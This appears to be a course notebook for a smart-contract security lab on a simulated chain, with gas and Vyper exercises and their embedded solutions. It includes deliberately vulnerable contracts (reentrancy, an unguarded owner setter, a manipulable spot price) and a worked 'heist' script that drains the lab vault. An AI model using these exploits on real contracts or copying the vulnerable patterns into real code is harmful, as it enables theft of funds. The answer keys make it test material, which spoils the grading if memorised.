# %% [markdown]
# # Lab: Contracts that act
#
# You need the lesson of this unit. First a bench, then five exercises, then a vault with 30 ether in it. An exercise and its check stand in one cell: fill in the gap, run the cell, read what the check says. `hint("04.1")` helps, `hint("04.1", 2)` helps more.

# %%
from nnchain_edu import Chain, check, hint
from nnchain_edu.chain import source
from nnchain_edu.lab import Bench
from nnchain_edu.lab.gas_bench import GasBench

chain = Chain()

# %% [markdown]
# ## Bench: what does a line cost?
#
# Your line stands in the function `run(x)` of a small contract, which is called with `x = 7`. It may use `self.total`, `self.notes[msg.sender]`, `self.row` (a list of numbers) and `self.spare`, which lasts for one transaction. The bars show where the gas went, the dashed outline what the line before took.
#
# Write your prediction first, then look at the second call. Then find out:
#
# 1. What does the second call of `self.total += x` save, and why?
# 2. Which is dearer, to hash a number or to store it? By what factor?
# 3. Take "a hundred rounds". Replace `self.spare` by `self.total`. What changes, what hardly does?
# 4. Find a line that takes more than 100,000 gas.
# 5. Find a line that makes the code longer and the call cheaper. (What may be left out when `x` is small?)

# %%
Bench(GasBench())

# %% [markdown]
# ## Exercise 1: find the slot of a mapping's entry
#
# A mapping stands at a slot, and each entry has a slot of its own: the hash of two words of 32 bytes. Write `slot_of(position, key)`, which takes the mapping's slot (an `int`) and an address (text, beginning with `0x`) and returns the entry's slot (an `int`). `keccak(data)` takes bytes and returns 32 bytes.
#
# Worked value: `slot_of(1, "0x" + "00" * 20)` is the number that begins `0xada50131` in hexadecimal.

# %%
from eth_utils import keccak


def slot_of(position, key):
    ### BEGIN SOLUTION
    word = bytes.fromhex(key[2:]).rjust(32, b"\0")
    return int.from_bytes(keccak(position.to_bytes(32, "big") + word), "big")
    ### END SOLUTION


check("04.1", slot_of)

# %% [markdown]
# ## Exercise 2: compute the gas of a transaction
#
# Write `gas_used(data, execution, refund)`: the data sent along (`bytes`), the gas that the code takes, and the gas that it gives back for clearing storage. Returned is the gas that the receipt will show (`int`). The rules:
#
# - A transaction takes 21,000, and 4 for each zero byte of data, 16 for each other byte. The execution comes on top.
# - The refund is taken off, but at most a fifth of what was used up to then (whole numbers, rounded down).
# - Never less is paid than the floor: 21,000, and 10 for each zero byte, 40 for each other byte.
#
# Worked value: `gas_used(b"\x01\x00", 100, 0)` is 21,120, and with 10 in place of 100 it is 21,050, the floor.


# %%
def gas_used(data, execution, refund):
    ### BEGIN SOLUTION
    zeros = data.count(0)
    others = len(data) - zeros
    before = 21_000 + 4 * zeros + 16 * others + execution
    after = before - min(refund, before // 5)
    return max(after, 21_000 + 10 * zeros + 40 * others)
    ### END SOLUTION


check("04.2", gas_used)

# %% [markdown]
# ## Exercise 3: write a jar that only its owner empties
#
# A cell that begins with `%%contract Jar` is Vyper; what follows in that line is Python, run when the cell has been compiled. Write:
#
# - `pay_in()`: anybody may send ether along. It logs `PaidIn(who, amount)`.
# - `pay_out(receiver)`: the owner sends all that is in the jar, `self.balance`, to `receiver`. For everybody else it reverts.
#
# The owner is who deploys. The check deploys your jar on a fresh chain, and Judy tries everything she can think of.

# %%
# %%contract Jar check("04.3", Jar)
# event PaidIn:
#     who: indexed(address)
#     amount: uint256
#
# ### BEGIN SOLUTION
# owner: address
#
# @deploy
# def __init__():
#     self.owner = msg.sender
#
# ### STUB
# ### END SOLUTION
# @external
# @payable
# def pay_in():
#     ### BEGIN SOLUTION
#     log PaidIn(who=msg.sender, amount=msg.value)
#     ### STUB
#     # pass  # your code here
#     ### END SOLUTION
#
# @external
# def pay_out(receiver: address):
#     ### BEGIN SOLUTION
#     assert msg.sender == self.owner, "only the owner"
#     raw_call(receiver, b"", value=self.balance)
#     ### STUB
#     # pass  # your code here
#     ### END SOLUTION

# %% [markdown]
# ## Exercise 4: repair the bank
#
# In this bank customers can also give their money to each other. It has the mistake of the lesson, and `give` opens a second door to it. Repair it so that nobody takes out more than is theirs, and everybody, people and contracts, still gets what is theirs. Take the remark `your code here` out when you begin.

# %%
# %%contract Bank check("04.4", Bank)
# balances: public(HashMap[address, uint256])
#
# @external
# @payable
# def deposit():
#     self.balances[msg.sender] += msg.value
#
# @external
# def give(receiver: address, amount: uint256):
#     self.balances[msg.sender] -= amount
#     self.balances[receiver] += amount
#
# @external
# def withdraw():
#     amount: uint256 = self.balances[msg.sender]
#     assert amount > 0, "nothing to withdraw"
#     ### BEGIN SOLUTION
#     self.balances[msg.sender] = 0
#     raw_call(msg.sender, b"", value=amount)
#     ### STUB
#     # raw_call(msg.sender, b"", value=amount)
#     # self.balances[msg.sender] = 0  # your code here
#     ### END SOLUTION

# %% [markdown]
# ## Exercise 5: put bounds, a wait and a safe default around a model
#
# A model's key, given to the constructor, proposes how many percent may be lent. Fill in the three functions:
#
# - `percent()`: the value in force. It is 30 at the start, and 30 again when the last change is more than 86,400 seconds old.
# - `propose(percent)`: only for the model's key, and only from 30 to 75, both included. A new proposal replaces the old one and waits anew. (There is no rule on steps here.)
# - `carry_out()`: anybody may call. It reverts unless a proposal has waited 3,600 seconds, and also when it has waited for more than 86,400: that is old news. Otherwise the proposal is in force, once.
#
# Worked value: proposed 75, an hour later carried out: `percent()` is 75, and 30 a day and a second later.

# %%
# %%contract Limit check("04.5", Limit)
# model: address
# stored: uint256
# changed: uint256
# pending: uint256
# ready: uint256
#
# @deploy
# def __init__(model_key: address):
#     self.model = model_key
#
# @external
# @view
# def percent() -> uint256:
#     ### BEGIN SOLUTION
#     return self.stored if block.timestamp <= self.changed + 86400 else 30
#     ### STUB
#     # return 0  # your code here
#     ### END SOLUTION
#
# @external
# def propose(percent: uint256):
#     ### BEGIN SOLUTION
#     assert msg.sender == self.model, "only the model proposes"
#     assert percent >= 30 and percent <= 75, "outside the bounds"
#     self.pending = percent
#     self.ready = block.timestamp + 3600
#     ### STUB
#     # pass  # your code here
#     ### END SOLUTION
#
# @external
# def carry_out():
#     ### BEGIN SOLUTION
#     assert self.ready > 0 and block.timestamp >= self.ready, "nothing is ready"
#     assert block.timestamp <= self.ready + 82800, "old news"
#     self.ready = 0
#     self.stored = self.pending
#     self.changed = block.timestamp
#     ### STUB
#     # pass  # your code here
#     ### END SOLUTION

# %% [markdown]
# ## Challenge, first half: empty the vault
#
# `vault_with_holes` keeps 30 ether in three purses, `reserve`, `held` and `fund`, and has a hole beside each. Read it. (`immutable` is set once, by the constructor; an `interface` says how another contract is called, `staticcall` calls what changes nothing.)

# %%
source("vault_with_holes")

# %% [markdown]
# Be Judy. Write `heist(chain, vault, market, token)`, which leaves less than 0.1 ether in each purse. The vault is deployed, bob and carol have deposited 5 ether each. Send every transaction with `sender="judy"`, who has 10,000 ether of her own, and may deploy contracts. The score is the ether that you took out of the vault; the check says how much is still missing.
#
# These may serve: `source("bank_thief")`, `market.functions.buy` (send ether along) and `market.functions.sell(tokens)` (first `token.functions.approve(market, tokens)`), `vault.functions.price().call()`, and amounts in wei, `10**18` to the ether. A whole token is `10**18` units too.


# %%
def heist(chain, vault, market, token):
    ### BEGIN SOLUTION
    ether = 10**18
    # the reserve: anybody may name the keeper
    chain.send(vault.functions.name_keeper, "judy", sender="judy")
    chain.send(vault.functions.spend, "judy", sender="judy")
    # the fund: the vault believes a price of the moment
    chain.send(market.functions.buy, sender="judy", value=300 * ether)
    chain.send(vault.functions.update, sender="judy")
    tokens = vault.functions.fund().call() * ether // vault.functions.price().call()
    chain.send(token.functions.approve, vault, tokens, sender="judy")
    chain.send(vault.functions.sell, tokens, sender="judy")
    rest = token.functions.balanceOf(chain.accounts["judy"].address).call()
    chain.send(token.functions.approve, market, rest, sender="judy")
    chain.send(market.functions.sell, rest, sender="judy")
    # the depositors' money: withdraw pays before it books; last, since this thief goes on while the vault holds its stake
    thief = chain.deploy("bank_thief", sender="judy")
    chain.send(thief.functions.rob, vault, sender="judy", value=10 * ether)
    ### END SOLUTION


check("04.6", heist)

# %% [markdown]
# ## Challenge, second half: close the holes
#
# Here is the same vault. Close the three holes so that keeper, depositors and honest sellers are still served. `update` must revert when it is called again within 1,800 seconds; anybody may call it after that. The market was there long before the vault. The check brings thieves that are better than yours. Take the remarks `your code here` out as you go.

# %%
# %%contract Vault check("04.7", Vault)
# from ethereum.ercs import IERC20
#
# interface Market:
#     def price() -> uint256: view
#     def price_seconds() -> uint256: view
#
# token: public(immutable(IERC20))
# market: public(immutable(Market))
# keeper: public(address)
# reserve: public(uint256)
# held: public(uint256)
# fund: public(uint256)
# deposits: public(HashMap[address, uint256])
# price: public(uint256)
# updated: public(uint256)
# ### BEGIN SOLUTION
# counted: uint256
# ### STUB
# ### END SOLUTION
#
# @deploy
# @payable
# def __init__(bought: address, priced_by: address):
#     token = IERC20(bought)
#     market = Market(priced_by)
#     self.keeper = msg.sender
#     self.reserve = msg.value // 2
#     self.fund = msg.value - self.reserve
#     self.updated = block.timestamp
#     ### BEGIN SOLUTION
#     self.counted = staticcall market.price_seconds()
#     ### STUB
#     ### END SOLUTION
#
# @external
# def name_keeper(new_keeper: address):
#     ### BEGIN SOLUTION
#     assert msg.sender == self.keeper, "only the keeper hands on"
#     self.keeper = new_keeper
#     ### STUB
#     # self.keeper = new_keeper  # your code here
#     ### END SOLUTION
#
# @external
# def spend(receiver: address):
#     assert msg.sender == self.keeper, "only the keeper spends"
#     amount: uint256 = self.reserve
#     self.reserve = 0
#     raw_call(receiver, b"", value=amount)
#
# @external
# @payable
# def deposit():
#     self.deposits[msg.sender] += msg.value
#     self.held += msg.value
#
# @external
# def withdraw():
#     amount: uint256 = self.deposits[msg.sender]
#     assert amount > 0, "nothing to withdraw"
#     assert amount <= self.held, "the depositors' purse is empty"
#     self.held -= amount
#     ### BEGIN SOLUTION
#     self.deposits[msg.sender] = 0
#     raw_call(msg.sender, b"", value=amount)
#     ### STUB
#     # raw_call(msg.sender, b"", value=amount)
#     # self.deposits[msg.sender] = 0  # your code here
#     ### END SOLUTION
#
# @external
# def update():
#     ### BEGIN SOLUTION
#     seconds: uint256 = block.timestamp - self.updated
#     assert seconds >= 1800, "half an hour has not passed"
#     counted: uint256 = staticcall market.price_seconds()
#     self.price = (counted - self.counted) // seconds
#     self.counted = counted
#     ### STUB
#     # self.price = staticcall market.price()  # your code here
#     ### END SOLUTION
#     self.updated = block.timestamp
#
# @external
# def sell(tokens: uint256):
#     assert self.price > 0, "no price yet: call update"
#     amount: uint256 = tokens * self.price // 10**18
#     assert amount <= self.fund, "the fund is too small"
#     self.fund -= amount
#     assert extcall token.transferFrom(msg.sender, self, tokens), "the token refused"
#     raw_call(msg.sender, b"", value=amount)

# %% [markdown]
# ## What remains
#
# Your vault averages over half an hour. What would it cost to hold the price up for that long, what to lift it much higher for a few seconds, and who would stop you? What may a seller do when nobody has called `update` for a week? Which of the three holes would a second pair of eyes have found, which only a test? Run the next cell to see where you stand.

# %%
check()
